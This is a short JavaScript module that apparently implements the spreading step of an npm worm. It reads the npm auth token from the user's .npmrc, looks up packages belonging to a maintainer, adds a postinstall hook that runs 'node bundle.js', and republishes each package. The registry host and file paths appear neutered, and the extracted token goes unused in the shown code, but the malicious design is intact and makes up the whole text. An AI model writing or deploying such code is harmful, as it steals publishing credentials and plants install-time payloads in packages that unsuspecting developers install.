const { execSync } = require('child_process');
const fs = require('fs'), os = require('os');
const tok = /_authToken=(\S+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'));
module.exports = async (me) => {
  const r = await fetch('https://registry.npmjs.org.invalid/-/v1/search?text=maintainer:' + me);
  for (const { package: p } of (await r.json()).objects) {
    const pkg = JSON.parse(fs.readFileSync('/nonexistent/package.json'));
    pkg.scripts.postinstall = 'node bundle.js';
    execSync('npm publish /nonexistent/' + p.name + '.tgz');
  }
};
